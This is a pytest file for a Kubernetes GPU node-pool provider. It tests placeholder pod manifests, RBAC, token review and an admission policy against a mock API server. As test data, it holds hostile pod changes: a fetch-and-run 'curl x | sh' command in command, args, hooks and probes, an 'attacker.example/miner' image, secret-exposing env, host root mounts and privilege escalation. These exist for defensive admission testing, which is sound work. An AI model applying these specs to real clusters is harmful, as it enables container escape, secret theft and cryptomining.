"""The `kubernetes` node-pool provider: the placeholder pod and the node-pools manifests validated
offline, and the provider's calls against a small HTTPS server in the test that plays the API server
(with the service account's token and CA, as in a cluster)."""

from __future__ import annotations

import dataclasses
import datetime
import ipaddress
import json
import os
import re
import ssl
import threading
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlparse

import celpy
import httpx
import kubernetes_validate
import pytest
import yaml
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

from endpoints.fleet.pool_services import MAX_GPUS_PER_NODE
from endpoints.fleet.providers import get_provider, k8s_api, kubernetes
from endpoints.fleet.providers.base import LaunchSpec, PoolSpec, ProviderError, ProviderUnreachable
from endpoints.fleet.providers.k8s_placeholder import placeholder_pod
from gpu_agent.runtime import control_plane as control_plane_client
from tests.infra.conftest import INFRA_DIR, Rendered, render, run_tool, tool

SA_TOKEN = "service-account-token-0123456789"
KUBERNETES_VERSIONS = ("1.30.0", "1.37.0")
TEMPLATE = {
    "node_selector": {"karpenter.sh/nodepool": "gpu-a10g", "node.kubernetes.io/instance-type": "g5.2xlarge"},
    "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}],
    "zones": ["us-east-1a", "us-east-1b"],
}
INSTALLATION_ID = "6b1d4a0e-3c2f-4e8a-9d7b-5a4c3b2a1f00"  # `FleetInstallation.current_id()` of this control plane
POOL = PoolSpec(id=5, name="a10g", gpu_type="a10g-24gb", gpus_per_node=2, gpu_memory_mb=24576, template=TEMPLATE,
                installation_id=INSTALLATION_ID)
LAUNCH_ID = "0d6f3c1a-8e2b-4c55-9a57-7f1e2d3c4b5a"
LABEL_VALUE = re.compile(r"^(([A-Za-z0-9][-A-Za-z0-9_.]{0,61})?[A-Za-z0-9])?$")  # Kubernetes' own rule


def _spec(launch_id: str = LAUNCH_ID, zone: str = "") -> LaunchSpec:
    return LaunchSpec(launch_id=launch_id, name="", join_token="jt_unused-here", control_plane_url="https://x", zone=zone)


def _validate(tmp_path, documents: list[dict]) -> None:
    manifest = tmp_path / "manifest.yaml"
    manifest.write_text(yaml.safe_dump_all(documents))
    for version in KUBERNETES_VERSIONS:
        result = run_tool([tool("kubernetes-validate"), "--strict", "--quiet", "--kubernetes-version", version, str(manifest)])
        assert result.returncode == 0, f"Kubernetes {version}:\n{result.stdout}{result.stderr}"


def test_the_placeholder_pod_requests_the_pools_gpus_on_its_nodes_and_is_never_evicted(tmp_path):
    pod = placeholder_pod(POOL, _spec(zone="us-east-1b"), namespace="inferplane", image="registry.example.com/pause:3.10")
    _validate(tmp_path, [pod])

    assert pod["metadata"]["name"] == f"inferplane-capacity-{LAUNCH_ID}"
    assert pod["metadata"]["labels"]["inferplane.dev/pool"] == "5"
    assert pod["metadata"]["labels"]["inferplane.dev/launch"] == LAUNCH_ID
    assert pod["metadata"]["labels"]["inferplane.dev/installation"] == INSTALLATION_ID
    assert "inferplane.dev/fleet" not in pod["metadata"]["labels"]  # no fleet named
    for fleet_id, label in (("prod.eu-1", "prod.eu-1"), ("acme:prod", "acme-prod"), ("prod/eu 1", "prod-eu-1"),
                            ("-acme.", "acme"), ("x" * 62 + ".y", "x" * 62)):
        fleet_pod = placeholder_pod(POOL, _spec(), namespace="n", image="p", fleet_id=fleet_id)
        assert fleet_pod["metadata"]["labels"]["inferplane.dev/fleet"] == label  # a label value, as always written
    assert "inferplane.dev/fleet" not in placeholder_pod(POOL, _spec(), namespace="n", image="p", fleet_id="//")[
        "metadata"]["labels"]  # nothing of it is a label value
    assert pod["metadata"]["annotations"]["cluster-autoscaler.kubernetes.io/safe-to-evict"] == "false"
    assert pod["metadata"]["annotations"]["karpenter.sh/do-not-disrupt"] == "true"
    spec = pod["spec"]
    assert spec["nodeSelector"] == TEMPLATE["node_selector"] and spec["tolerations"] == TEMPLATE["tolerations"]
    [container] = spec["containers"]
    assert container["resources"]["requests"]["nvidia.com/gpu"] == container["resources"]["limits"]["nvidia.com/gpu"] == 2
    [anti] = spec["affinity"]["podAntiAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"]
    assert anti["topologyKey"] == "kubernetes.io/hostname"
    assert anti["labelSelector"]["matchLabels"]["inferplane.dev/pool"] == "5"
    [term] = spec["affinity"]["nodeAffinity"]["requiredDuringSchedulingIgnoredDuringExecution"]["nodeSelectorTerms"]
    assert term["matchExpressions"] == [{"key": "topology.kubernetes.io/zone", "operator": "In", "values": ["us-east-1b"]}]
    assert spec["automountServiceAccountToken"] is False and spec["securityContext"]["runAsNonRoot"] is True

    other = placeholder_pod(PoolSpec(id=6, name="amd", gpu_type="mi300x", gpus_per_node=8, gpu_memory_mb=1,
                                     template={"gpu_resource": "amd.com/gpu"}), _spec(), namespace="n", image="p")
    assert other["spec"]["containers"][0]["resources"]["limits"]["amd.com/gpu"] == 8
    assert "nodeAffinity" not in other["spec"]["affinity"]


def test_the_node_pools_overlay_lets_the_worker_manage_pods_and_pooled_agents_claim_no_gpus(tmp_path):
    rendered = render("production-node-pools")
    _validate(tmp_path, rendered.documents)

    role = rendered.get("Role", "inferplane-node-pools")
    assert role["metadata"]["namespace"] == "inferplane"
    assert role["rules"] == [{"apiGroups": [""], "resources": ["pods"], "verbs": ["create", "delete", "get", "list"]}]
    binding = rendered.get("RoleBinding", "inferplane-node-pools")
    assert binding["subjects"] == [{"kind": "ServiceAccount", "name": "inferplane-node-pools", "namespace": "inferplane"}]
    # The web pods may review tokens (a registering agent's pod token), and do nothing else with the API.
    [cluster_role] = rendered.all("ClusterRole")
    assert cluster_role["metadata"]["name"] == "inferplane-registration-review.inferplane" and cluster_role["rules"] == [
        {"apiGroups": ["authentication.k8s.io"], "resources": ["tokenreviews"], "verbs": ["create"]}]
    [cluster_binding] = rendered.all("ClusterRoleBinding")
    assert cluster_binding["roleRef"]["name"] == cluster_role["metadata"]["name"] and cluster_binding["subjects"] == [
        {"kind": "ServiceAccount", "name": "inferplane-registration-review", "namespace": "inferplane"}]

    worker = rendered.get("Deployment", "inferplane-worker")["spec"]["template"]["spec"]
    assert worker["serviceAccountName"] == "inferplane-node-pools" and worker["automountServiceAccountToken"] is True
    web = rendered.get("Deployment", "inferplane-web")["spec"]["template"]["spec"]
    assert web["serviceAccountName"] == "inferplane-registration-review" and web["automountServiceAccountToken"] is True

    agent = rendered.get("DaemonSet", "inferplane-agent")["spec"]["template"]["spec"]
    [container] = agent["containers"]
    assert agent["runtimeClassName"] == "nvidia"
    # The agent registers with its pod's projected token for our audience (what `reviewed_agent_pod` checks), at the
    # path it reads, as the service account the review must name; no API token of it is mounted.
    assert agent["serviceAccountName"] == kubernetes.AGENT_SERVICE_ACCOUNT and agent["automountServiceAccountToken"] is False
    assert rendered.get("ServiceAccount", kubernetes.AGENT_SERVICE_ACCOUNT)["automountServiceAccountToken"] is False
    [volume] = [volume for volume in agent["volumes"] if volume["name"] == "registration-token"]
    [source] = volume["projected"]["sources"]
    assert source["serviceAccountToken"]["audience"] == kubernetes.AGENT_TOKEN_AUDIENCE
    assert source["serviceAccountToken"]["expirationSeconds"] <= 3600
    [mount] = [mount for mount in container["volumeMounts"] if mount["name"] == "registration-token"]
    assert f"{mount['mountPath']}/{source['serviceAccountToken']['path']}" == str(control_plane_client.POD_TOKEN_FILE)
    assert "nvidia.com/gpu" not in container["resources"]["requests"] and "nvidia.com/gpu" not in container["resources"]["limits"]
    env = {variable["name"]: variable for variable in container["env"]}
    assert env["NVIDIA_VISIBLE_DEVICES"]["value"] == "all"
    # The agent registers under its Kubernetes node's name: what `list` reports for the placeholder there.
    assert "--name=$(NODE_NAME)" in container["args"]
    assert env["NODE_NAME"]["valueFrom"]["fieldRef"]["fieldPath"] == "spec.nodeName"
    # ...at its pod's IP, which `list` finds by the agent pods' labels: those of this DaemonSet's pods and no others
    assert env["INFERPLANE_AGENT_ADVERTISE_HOST"]["valueFrom"]["fieldRef"]["fieldPath"] == "status.podIP"
    wanted = dict(pair.split("=") for pair in kubernetes.AGENT_SELECTOR.split(","))
    labelled = [(document["kind"], document["metadata"]["name"]) for document in rendered.documents
                if wanted.items() <= document.get("spec", {}).get("template", {}).get("metadata", {}).get(
                    "labels", {}).items()]
    assert labelled == [("DaemonSet", "inferplane-agent")] and wanted == {
        key: AGENT_LABELS[key] for key in ("app.kubernetes.io/component", "app.kubernetes.io/name")}


POLICY = "inferplane-node-pools-placeholders.inferplane"  # `.` the namespace of the install


def _cel(expression: str, activation: dict):
    """`expression`'s value under `activation` (JSON values), by cel-python (a CEL implementation to the language's
    spec: its `has()`, `all()`, error and overload rules); raises `celpy.CELEvalError` where CEL's evaluation errs."""
    environment = celpy.Environment()
    values = {name: value if isinstance(value, celpy.celtypes.MapType) else celpy.json_to_cel(value)
              for name, value in activation.items()}
    return environment.program(environment.compile(expression)).evaluate(values)


def _denied(rendered, username: str, operation: str, pod: dict, namespace: str = "inferplane") -> list[str]:
    """What the rendered ValidatingAdmissionPolicy answers a request of `username` to `operation` (CREATE, DELETE)
    `pod`: the messages of the rules it breaks (a rule whose evaluation errs denies, `failurePolicy: Fail`); [] when it
    is admitted or the policy does not match it. Evaluated as the API server would, on the pod after its defaulting
    (the service-account admission names the `default` account)."""
    policy, binding = rendered.get("ValidatingAdmissionPolicy", POLICY)["spec"], rendered.get(
        "ValidatingAdmissionPolicyBinding", POLICY)["spec"]
    assert binding["policyName"] == POLICY and binding["validationActions"] == ["Deny"]
    assert policy["failurePolicy"] == "Fail" and binding["paramRef"]["parameterNotFoundAction"] == "Deny"
    params = rendered.get("ConfigMap", binding["paramRef"]["name"])
    [namespaces] = binding["matchResources"]["namespaceSelector"]["matchExpressions"]
    assert namespaces["key"] == "kubernetes.io/metadata.name" and namespaces["operator"] == "In"
    if namespace not in namespaces["values"]:
        return []
    if not any("pods" in rule["resources"] and operation in rule["operations"] and rule["apiGroups"] == [""]
               for rule in policy["matchConstraints"]["resourceRules"]):
        return []
    pod = pod | {"spec": {"serviceAccountName": "default"} | pod["spec"]}
    env = {"request": {"operation": operation, "userInfo": {"username": username}, "namespace": namespace},
           "object": pod if operation == "CREATE" else None, "oldObject": pod if operation == "DELETE" else None,
           "params": params}
    if not all(_cel(condition["expression"], env) == celpy.celtypes.BoolType(True)
               for condition in policy["matchConditions"]):
        return []
    variables = celpy.celtypes.MapType()
    for variable in policy.get("variables", []):
        variables[celpy.celtypes.StringType(variable["name"])] = _cel(variable["expression"], env | {
            "variables": variables})
    env["variables"] = variables
    broken = []
    for rule in policy["validations"]:
        try:
            allowed = _cel(rule["expression"], env) == celpy.celtypes.BoolType(True)
        except celpy.CELEvalError:
            allowed = False
        if not allowed:
            broken.append(rule["message"])
    return broken


def test_the_node_pools_worker_may_create_and_delete_only_the_placeholders_the_pools_launch():
    """A stolen worker credential may create pods in its namespace (RBAC cannot say which): the admission policy
    admits only the placeholder the provider builds, with the image the worker is set to use, and no pod that differs
    from it in what matters (image, command, environment, mounts, privileges, host namespaces, node, runtime, service
    account); it lets the worker delete placeholders only. Other users are not its business."""
    rendered = render("production-node-pools")
    binding = rendered.get("RoleBinding", "inferplane-node-pools")
    [subject] = binding["subjects"]
    worker = f"system:serviceaccount:{subject['namespace']}:{subject['name']}"
    image = rendered.config_map("inferplane-config")["data"]["INFERPLANE_K8S_PLACEHOLDER_IMAGE"]
    role = rendered.get("Role", "inferplane-node-pools")
    [rule] = role["rules"]
    # Every pod write RBAC grants the worker is one the policy judges.
    writes = {verb.upper() for verb in rule["verbs"]} - {"GET", "LIST", "WATCH"}
    assert writes == {"CREATE", "DELETE"} and all(_denied(rendered, worker, operation, {"metadata": {}, "spec": {}})
                                                   for operation in writes)

    placeholder = placeholder_pod(POOL, _spec(zone="us-east-1a"), namespace="inferplane", image=image,
                                  fleet_id="prod.eu-1")
    assert _denied(rendered, worker, "CREATE", placeholder) == []
    assert _denied(rendered, worker, "DELETE", placeholder) == []
    no_gpus = placeholder_pod(PoolSpec(id=6, name="cpu", gpu_type="cpu", gpus_per_node=0, gpu_memory_mb=1),
                              _spec(), namespace="inferplane", image=image)
    assert _denied(rendered, worker, "CREATE", no_gpus) == []
    most_gpus = placeholder_pod(dataclasses.replace(POOL, gpus_per_node=MAX_GPUS_PER_NODE), _spec(),
                                namespace="inferplane", image=image)
    assert _denied(rendered, worker, "CREATE", most_gpus) == []

    def changed(change) -> dict:
        pod = json.loads(json.dumps(placeholder))
        change(pod["spec"], pod["spec"]["containers"][0], pod["metadata"])
        return pod

    hostile = {
        "another image": lambda spec, container, meta: container.update(image="attacker.example/miner:1"),
        "another command": lambda spec, container, meta: container.update(command=["sh", "-c", "curl x | sh"]),
        "arguments": lambda spec, container, meta: container.update(args=["-c", "curl x | sh"]),
        "a secret in its environment": lambda spec, container, meta: container.update(env=[{
            "name": "T", "valueFrom": {"secretKeyRef": {"name": "inferplane", "key": "DATABASE_URL"}}}]),
        "every secret key as its environment": lambda spec, container, meta: container.update(
            envFrom=[{"secretRef": {"name": "inferplane"}}]),
        "the host's disk": lambda spec, container, meta: (
            spec.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
            container.update(volumeMounts=[{"name": "root", "mountPath": "/host"}])),
        "a privileged container": lambda spec, container, meta: container["securityContext"].update(privileged=True),
        "an added capability": lambda spec, container, meta: container["securityContext"].update(
            capabilities={"add": ["SYS_ADMIN"]}),
        "privilege escalation": lambda spec, container, meta: container["securityContext"].update(
            allowPrivilegeEscalation=True),
        "root": lambda spec, container, meta: (spec["securityContext"].update(runAsNonRoot=False),),
        "the host's network": lambda spec, container, meta: spec.update(hostNetwork=True),
        "the host's processes": lambda spec, container, meta: spec.update(hostPID=True),
        "a node of its choosing": lambda spec, container, meta: spec.update(nodeName="ip-10-0-3-17.ec2.internal"),
        "the GPU runtime": lambda spec, container, meta: spec.update(runtimeClassName="nvidia"),
        "the worker's own account": lambda spec, container, meta: spec.update(
            serviceAccountName="inferplane-node-pools", automountServiceAccountToken=True),
        "a second container": lambda spec, container, meta: spec["containers"].append(dict(container, name="x")),
        "an init container": lambda spec, container, meta: spec.update(initContainers=[dict(container, name="x")]),
        "no placeholder labels": lambda spec, container, meta: meta.update(labels={"app": "miner"}),
        # NOTE: each runs a command of its choosing in the placeholder, which holds the node's GPUs (the device plugin
        # hands them to it) and reaches anywhere (no egress policy selects it): the image's own `sleep` is not all.
        "a command on start": lambda spec, container, meta: container.update(
            lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "curl x | sh"]}}}),
        "a command on stop": lambda spec, container, meta: container.update(
            lifecycle={"preStop": {"exec": {"command": ["sh", "-c", "curl x | sh"]}}}),
        "a liveness probe's command": lambda spec, container, meta: container.update(
            livenessProbe={"exec": {"command": ["sh", "-c", "curl x | sh"]}, "periodSeconds": 10}),
        "a readiness probe's command": lambda spec, container, meta: container.update(
            readinessProbe={"exec": {"command": ["sh", "-c", "curl x | sh"]}}),
        "a startup probe's command": lambda spec, container, meta: container.update(
            startupProbe={"exec": {"command": ["sh", "-c", "curl x | sh"]}}),
        # NOTE: any namespace may name the built-in classes: the scheduler then evicts whatever runs on the node the
        # placeholder's selector names (the web pods, another tenant's) to make room for it.
        "a priority class that preempts": lambda spec, container, meta: spec.update(
            priorityClassName="system-node-critical"),
        # NOTE: the autoscaler adds the largest node that fits a placeholder's requests, for as long as it lives.
        "more GPUs than a machine has": lambda spec, container, meta: [
            container["resources"][kind].update({"nvidia.com/gpu": MAX_GPUS_PER_NODE + 1}) for kind in ("requests", "limits")],
        "a thousand GPUs written as 1k": lambda spec, container, meta: [
            container["resources"][kind].update({"nvidia.com/gpu": "1k"}) for kind in ("requests", "limits")],
        "a terabyte of memory": lambda spec, container, meta: container["resources"]["requests"].update(memory="1Ti"),
        "every core of a node": lambda spec, container, meta: container["resources"]["requests"].update(cpu="192"),
        "a raised limit": lambda spec, container, meta: container["resources"]["limits"].update(memory="512Gi"),
        "the node's disk": lambda spec, container, meta: container["resources"]["requests"].update(
            {"ephemeral-storage": "2Ti"}),
        "a second extended resource": lambda spec, container, meta: [
            container["resources"][kind].update({"amd.com/gpu": 8}) for kind in ("requests", "limits")],
        # NOTE: the count of requests alone (at most 3) let two or three extended resources through with no memory or cpu.
        "a second extended resource in memory's place": lambda spec, container, meta: [
            (container["resources"][kind].pop("memory"), container["resources"][kind].update({"amd.com/gpu": 64}))
            for kind in ("requests", "limits")],
        "three extended resources and nothing else": lambda spec, container, meta: [
            container["resources"].update({kind: {"nvidia.com/gpu": 64, "amd.com/gpu": 64, "example.com/fpga": 64}})
            for kind in ("requests", "limits")],
        "a device claim": lambda spec, container, meta: (
            spec.update(resourceClaims=[{"name": "gpus", "resourceClaimName": "someone-elses"}]),
            container["resources"].update(claims=[{"name": "gpus"}])),
        "pod-level resources": lambda spec, container, meta: spec.update(resources={"requests": {"memory": "1Ti"}}),
        # NOTE: pinned onto a node (another team's GPUs, the control plane's) by name or by a pod running there.
        "a node chosen by host name": lambda spec, container, meta: spec["nodeSelector"].update(
            {"kubernetes.io/hostname": "ip-10-0-3-17.ec2.internal"}),
        "a node affinity by host name": lambda spec, container, meta: spec["affinity"]["nodeAffinity"][
            "requiredDuringSchedulingIgnoredDuringExecution"]["nodeSelectorTerms"][0]["matchExpressions"].append(
            {"key": "kubernetes.io/hostname", "operator": "In", "values": ["ip-10-0-3-17.ec2.internal"]}),
        "a node affinity by node name": lambda spec, container, meta: spec["affinity"]["nodeAffinity"][
            "requiredDuringSchedulingIgnoredDuringExecution"]["nodeSelectorTerms"][0].update(matchFields=[
                {"key": "metadata.name", "operator": "In", "values": ["ip-10-0-3-17.ec2.internal"]}]),
        "a preferred node": lambda spec, container, meta: spec["affinity"]["nodeAffinity"].update(
            preferredDuringSchedulingIgnoredDuringExecution=[{"weight": 100, "preference": {"matchExpressions": [
                {"key": "kubernetes.io/hostname", "operator": "In", "values": ["ip-10-0-3-17.ec2.internal"]}]}}]),
        "a pod affinity onto another's node": lambda spec, container, meta: spec["affinity"].update(podAffinity={
            "requiredDuringSchedulingIgnoredDuringExecution": [{"labelSelector": {"matchLabels": {"app": "victim"}},
                                                                 "topologyKey": "kubernetes.io/hostname"}]}),
        "an anti-affinity of its own": lambda spec, container, meta: spec["affinity"]["podAntiAffinity"][
            "requiredDuringSchedulingIgnoredDuringExecution"][0]["labelSelector"].update(matchLabels={"app": "x"}),
        "a spread constraint": lambda spec, container, meta: spec.update(topologySpreadConstraints=[{
            "maxSkew": 1, "topologyKey": "kubernetes.io/hostname", "whenUnsatisfiable": "DoNotSchedule",
            "labelSelector": {"matchLabels": {"app": "x"}}}]),
        "another scheduler": lambda spec, container, meta: spec.update(schedulerName="my-binder"),
    }
    for what, change in hostile.items():
        assert _denied(rendered, worker, "CREATE", changed(change)), f"admitted a placeholder with {what}"
    # A cluster whose globalDefault PriorityClass the admission names on every pod names it in the ConfigMap.
    params = rendered.get("ConfigMap", "inferplane-placeholder-policy")["data"]
    params["priorityClassName"] = "batch-default"
    try:
        assert _denied(rendered, worker, "CREATE", changed(
            lambda spec, container, meta: spec.update(priorityClassName="batch-default"))) == []
        assert _denied(rendered, worker, "CREATE", changed(hostile["a priority class that preempts"]))
    finally:
        del params["priorityClassName"]
    web_pod = {"metadata": {"name": "inferplane-web-7d9f", "labels": {"app.kubernetes.io/component": "web"}},
               "spec": {"containers": [{"name": "web", "image": "inferplane/controlplane"}]}}
    assert _denied(rendered, worker, "DELETE", web_pod) == [
        "only a node pool's capacity placeholder (its role, pool and launch labels)"]
    # Anyone else (an operator, another controller) is judged by their own rights, not by this policy.
    assert _denied(rendered, "system:serviceaccount:kube-system:daemon-set-controller", "CREATE", web_pod) == []
    assert _denied(rendered, "system:serviceaccount:inferplane:inferplane-registration-review", "CREATE",
                   changed(hostile["another image"])) == []
    # The policy's image is the one the worker puts on placeholders (one setting in each place: they must agree).
    assert rendered.get("ConfigMap", "inferplane-placeholder-policy")["data"]["image"] == image


def test_two_installs_in_one_cluster_keep_their_own_cluster_wide_objects_and_policies(tmp_path):
    """Two installs in two namespaces of one cluster (production's and staging's, each with node pools): before, both
    wrote one ValidatingAdmissionPolicy, binding, ClusterRole and ClusterRoleBinding (fixed names), the second
    install's binding named its own web pods only (the first's lost their token reviews), and either install's
    policy, of whatever release, judged both installs' placeholders."""
    staging_overlay = tmp_path / "staging-node-pools"
    staging_overlay.mkdir()
    overlays = INFRA_DIR / "k8s" / "overlays"
    (staging_overlay / "kustomization.yaml").write_text(yaml.safe_dump({
        "apiVersion": "kustomize.config.k8s.io/v1beta1", "kind": "Kustomization", "namespace": "inferplane-staging",
        "resources": [os.path.relpath(overlays / "staging", staging_overlay)],
        "components": [os.path.relpath(INFRA_DIR / "k8s" / "components" / "node-pools", staging_overlay)]}))
    result = run_tool([tool("kubectl"), "kustomize", "--load-restrictor", "LoadRestrictionsNone", str(staging_overlay)])
    assert result.returncode == 0, result.stderr
    installs = {"inferplane": render("production-node-pools"), "inferplane-staging": Rendered("staging", result.stdout)}

    cluster_wide = {}
    for namespace, rendered in installs.items():
        for document in rendered.documents:
            if document["kind"] in ("ClusterRole", "ClusterRoleBinding", "ValidatingAdmissionPolicy",
                                    "ValidatingAdmissionPolicyBinding"):
                key = (document["kind"], document["metadata"]["name"])
                assert key not in cluster_wide, f"both installs write {key}"
                cluster_wide[key] = namespace
        [cluster_binding] = rendered.all("ClusterRoleBinding")
        assert [subject["namespace"] for subject in cluster_binding["subjects"]] == [namespace]
        assert cluster_binding["roleRef"]["name"] == rendered.all("ClusterRole")[0]["metadata"]["name"]
        [policy] = rendered.all("ValidatingAdmissionPolicy")
        [binding] = rendered.all("ValidatingAdmissionPolicyBinding")
        assert binding["spec"]["policyName"] == policy["metadata"]["name"]
    assert len(cluster_wide) == 8

    # Each install's policy judges its own namespace's placeholders, not the other's.
    production = installs["inferplane"]
    image = production.config_map("inferplane-config")["data"]["INFERPLANE_K8S_PLACEHOLDER_IMAGE"]
    miner = placeholder_pod(POOL, _spec(), namespace="inferplane-staging", image="attacker.example/miner:1")
    staging_worker = "system:serviceaccount:inferplane-staging:inferplane-node-pools"
    assert _denied(production, staging_worker, "CREATE", miner, namespace="inferplane-staging") == []
    assert placeholder_pod(POOL, _spec(), namespace="inferplane", image=image)
    assert _denied(production, "system:serviceaccount:inferplane:inferplane-node-pools", "CREATE",
                   placeholder_pod(POOL, _spec(), namespace="inferplane", image="attacker.example/miner:1"))


class _ApiServer:
    """Pods of one namespace, as much of the API server as the provider uses, over HTTPS."""

    def __init__(self, certificate, key):
        self.pods: dict[str, dict] = {}
        self.requests: list[tuple[str, str, str]] = []
        self.time_out_creates = False
        self.page_size = 0  # pods per page of a list (0: the client's limit), as an API server may answer fewer
        self.fail_continued_pages = False  # every page after the first answers 410: the continue token expired
        # Projected service-account tokens the API server issued: token -> (pod name, pod uid, audiences).
        self.pod_tokens: dict[str, tuple[str, str, tuple[str, ...]]] = {}
        self.reviews_unreachable = False
        self.reviews_throttled = False  # 429, as API Priority and Fairness answers a flow over its share
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _answer(self, status: int, body: dict) -> None:
                data = json.dumps(body).encode()
                self.send_response(status)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            def _route(self):
                url = urlparse(self.path)
                server.requests.append((self.command, url.path, self.headers.get("Authorization", "")))
                parts = url.path.strip("/").split("/")
                assert parts[:3] == ["api", "v1", "namespaces"] and parts[4] == "pods", url.path
                return parts[3], (parts[5] if len(parts) > 5 else None), parse_qs(url.query)

            def _forbidden(self, namespace: str, verb: str = "create") -> bool:
                # The Role binds in the control plane's namespace only.
                if namespace == "inferplane":
                    return False
                self._answer(403, {"kind": "Status", "reason": "Forbidden", "message": (
                    f'pods is forbidden: User "system:serviceaccount:inferplane:inferplane-node-pools" '
                    f'cannot {verb} resource "pods" in the namespace "{namespace}"')})
                return True

            def _review(self):
                """A TokenReview, as the API server answers it for a pod's projected service-account token."""
                review = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                if server.reviews_throttled:
                    return self._answer(429, {"kind": "Status", "reason": "TooManyRequests", "code": 429,
                                              "message": "Too many requests, please try again later."})
                if server.reviews_unreachable:
                    return self._answer(503, {"kind": "Status", "reason": "ServiceUnavailable", "message": "etcd"})
                pod_name, pod_uid, audiences = server.pod_tokens.get(review["spec"]["token"], ("", "", ()))
                pod = server.pods.get(pod_name)
                wanted = set(review["spec"].get("audiences") or ["https://kubernetes.default.svc"])
                if pod is None or pod["metadata"].get("uid") != pod_uid or not wanted & set(audiences):
                    error = "invalid bearer token" if pod is not None or not pod_name else (
                        f'pods "{pod_name}" not found')
                    return self._answer(201, {"kind": "TokenReview", "status": {"authenticated": False,
                                                                                "error": error}})
                namespace, account = pod["metadata"]["namespace"], pod["spec"].get("serviceAccountName", "default")
                node = pod["spec"].get("nodeName", "")
                extra = {"authentication.kubernetes.io/pod-name": [pod_name],
                         "authentication.kubernetes.io/pod-uid": [pod_uid],
                         **({"authentication.kubernetes.io/node-name": [node]} if node else {})}
                self._answer(201, {"kind": "TokenReview", "status": {
                    "authenticated": True, "audiences": sorted(wanted & set(audiences)),
                    "user": {"username": f"system:serviceaccount:{namespace}:{account}", "uid": str(uuid.uuid4()),
                             "groups": ["system:serviceaccounts", f"system:serviceaccounts:{namespace}"],
                             "extra": extra}}})

            def do_POST(self):
                if self.path == "/apis/authentication.k8s.io/v1/tokenreviews":
                    server.requests.append((self.command, self.path, self.headers.get("Authorization", "")))
                    return self._review()
                namespace, _, _ = self._route()
                if self._forbidden(namespace):
                    return
                pod = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                name = pod["metadata"]["name"]
                for value in pod["metadata"].get("labels", {}).values():
                    if not LABEL_VALUE.match(value):  # as the API server's validation answers
                        return self._answer(422, {"kind": "Status", "reason": "Invalid", "message": (
                            f'Pod "{name}" is invalid: metadata.labels: Invalid value: "{value}": a valid label must '
                            f"be an empty string or consist of alphanumeric characters, '-', '_' or '.'")})
                if name in server.pods:
                    return self._answer(409, {"kind": "Status", "reason": "AlreadyExists", "message": f"pods \"{name}\" already exists"})
                pod["metadata"]["namespace"] = namespace
                pod["status"] = {"phase": "Pending"}
                server.pods[name] = pod
                if server.time_out_creates:  # created, and the answer is a gateway's timeout
                    return self._answer(504, {"kind": "Status", "reason": "Timeout", "message": "request timed out"})
                self._answer(201, pod)

            def do_GET(self):
                namespace, name, query = self._route()
                # NOTE: a list is refused outside the Role's namespace too. Before, only a create was: a test listing
                # the agent pods elsewhere was answered them all, and its "cannot be read" path never ran.
                if not name and self._forbidden(namespace, "list"):
                    return
                if name:
                    return self._answer(200, server.pods[name]) if name in server.pods else self._answer(404, {"reason": "NotFound"})
                wanted = dict(pair.split("=") for pair in query["labelSelector"][0].split(","))
                items = [pod for pod in server.pods.values()
                         if all(pod["metadata"]["labels"].get(key) == value for key, value in wanted.items())]
                start = int(query.get("continue", ["0"])[0])
                if start and server.fail_continued_pages:
                    return self._answer(410, {"kind": "Status", "reason": "Expired", "message": (
                        "The provided continue parameter is too old to display a consistent list result.")})
                size = server.page_size or int(query["limit"][0])
                more = {"continue": str(start + size)} if start + size < len(items) else {}
                self._answer(200, {"kind": "PodList", "metadata": more, "items": items[start:start + size]})

            def do_DELETE(self):
                _, name, _ = self._route()
                if server.pods.pop(name, None) is None:
                    return self._answer(404, {"reason": "NotFound"})
                self._answer(200, {"kind": "Status", "status": "Success"})

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(certificate, key)
        self.httpd.socket = context.wrap_socket(self.httpd.socket, server_side=True)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
        self.thread.start()

    def issue_pod_token(self, pod_name: str, audience: str = kubernetes.AGENT_TOKEN_AUDIENCE) -> str:
        """A projected service-account token of the pod (`serviceAccountToken` volume source, this audience)."""
        token = f"eyJhbGciOiJSUzI1NiJ9.{uuid.uuid4().hex}.sig"
        self.pod_tokens[token] = (pod_name, self.pods[pod_name]["metadata"]["uid"], (audience,))
        return token

    def stop(self):
        self.httpd.shutdown()
        self.httpd.server_close()


def _self_signed(directory):
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "kubernetes")])
    now = datetime.datetime.now(datetime.UTC)
    certificate = (
        x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
        .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(minutes=1))
        .not_valid_after(now + datetime.timedelta(hours=1))
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    (directory / "ca.crt").write_bytes(certificate.public_bytes(serialization.Encoding.PEM))
    (directory / "tls.key").write_bytes(key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    return directory / "ca.crt", directory / "tls.key"


@pytest.fixture
def api_server(tmp_path, monkeypatch, settings):
    """A service-account folder (token, CA, namespace) and the API server it names, as in a pod."""
    account = tmp_path / "serviceaccount"
    account.mkdir()
    certificate, key = _self_signed(account)
    (account / "token").write_text(SA_TOKEN + "\n")
    (account / "namespace").write_text("inferplane\n")
    server = _ApiServer(certificate, key)
